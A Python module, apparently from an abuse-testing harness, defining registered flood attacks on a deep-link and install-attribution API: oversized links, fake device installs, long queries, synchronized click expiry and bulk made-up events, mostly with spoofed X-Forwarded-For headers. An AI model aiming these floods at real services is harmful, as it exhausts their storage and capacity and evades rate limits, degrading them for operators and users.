"""What strangers store."""

import itertools
import random
import time
import uuid

from attacks.registry import attack
from attacks.sending import IPHONE, flood, from_addresses, lasting
from traffic import Outcome, pipeline, request


@attack
def links_by_a_stranger(target, until, number):
    """links of 60 KB, as fast as they are taken"""
    link = {"branch_key": target.key, "data": {"pear": "g" * 60_000}}
    addresses = from_addresses(number, 20)
    return flood(target, until, [request("POST", "/v1/url", link, {"X-Forwarded-For": address}) for address in addresses])


@attack
def installs_by_a_stranger(target, until, number):
    """installs through a link by made-up devices at made-up addresses"""
    dice = random.Random(number)
    outcome = Outcome()
    for _ in lasting(until):
        part = [
            request("POST", "/v1/install", {
                "branch_key": target.key, "os": "Android", "hardware_id": f"{dice.random()}", "is_hardware_id_real": True,
                "brand": f"{dice.random()}", "model": f"{dice.random()}", "os_version": "14",
                "android_app_link_url": target.names["URL"]},
                {"X-Forwarded-For": f"203.0.{dice.randrange(256)}.{dice.randrange(256)}"})
            for _ in range(32)
        ]
        pipeline(target.port, part, outcome)
    return outcome


@attack
def installs_by_a_large_link(target, until, number):
    """installs by a link of 60 KB, whose data each of them stores, of one network"""
    start = {"branch_key": target.key, "os": "iOS", "sdk": "ios3.0.0", "is_hardware_id_real": True}
    link = target.names["URL"].rsplit("/", 1)[0] + target.large[2]
    numbers = itertools.count()
    senders = [{"X-Forwarded-For": f"203.0.115.{100 * number + host}"} for host in range(50)]
    outcome = Outcome()
    for _ in lasting(until):
        part = [
            request("POST", "/v1/install", start | {"universal_link_url": link, "hardware_id": f"{number}-{next(numbers)}"}, sender)
            for sender in senders]
        pipeline(target.port, part, outcome)
    return outcome


@attack
def installs_after_long_queries(target, until, number):
    """installs at an address with a hundred clicks whose queries have 16 KB in small items"""
    sender = {"X-Forwarded-For": f"203.0.114.{number}"}
    outcome = Outcome()
    items = ["&".join(f"{click:x}{item:x}=" for item in range(3400))[:16_000] for click in range(100)]
    pipeline(target.port, [
        request("GET", f"{target.visit}?{query}", headers=sender | {"User-Agent": IPHONE}) for query in items], outcome)
    install = {
        "branch_key": target.key, "os": "iOS", "os_version": "17.0", "brand": "Apple", "model": "iPhone14,2", "screen_width": 1170,
        "screen_height": 2532, "sdk": "ios3.0.0", "is_hardware_id_real": True}
    for _ in lasting(until):
        part = [request("POST", "/v1/install", install | {"hardware_id": f"{time.time()}-{index}"}, sender) for index in range(8)]
        pipeline(target.port, part, outcome)
    return outcome


@attack
def visits_that_expire_together(target, until, number):
    """visits of 128 addresses whose queries say that their clicks expire in the same second, which comes before the attack ends"""
    outcome = Outcome()
    until = max(until, time.time() + 4)
    end = until - min(6, (until - time.time()) / 2)
    for index in itertools.count():
        left = end - time.time()
        if left < 0.5:
            break
        days = f"{left / 86400:.8f}"
        windows = f"$click_install_window_days={days}&$click_session_start_window_days={days}&$match_duration={left:.0f}"
        sender = {"X-Forwarded-For": f"198.51.{16 * number + index % 4}.{index % 32}", "User-Agent": IPHONE}
        pipeline(target.port, [
            request("GET", f"{target.visit}?$idfa={uuid.uuid4()}&{windows}", headers=sender) for _ in range(20)], outcome)
    for _ in lasting(until):
        time.sleep(0.1)
    return outcome


@attack
def made_up_content(target, until, number):
    """events with a hundred made-up pieces of content each"""
    dice = random.Random(number)

    def event(address):
        items = [{"$canonical_identifier": f"{dice.random()}"} for _ in range(100)]
        body = {"branch_key": target.key, "name": "VIEW_ITEMS", "content_items": items}
        return request("POST", "/v2/event/standard", body, {"X-Forwarded-For": address})

    return flood(target, until, lambda: [event(address) for address in from_addresses(number, 20)])


@attack
def made_up_labels(target, until, number):
    """visits with made-up channels and user agents"""
    dice = random.Random(number)
    return flood(target, until, lambda: [
        request("GET", f"{target.visit}?~channel={dice.random()}", headers={"User-Agent": f"Pear/{dice.random()}"}) for _ in range(64)])
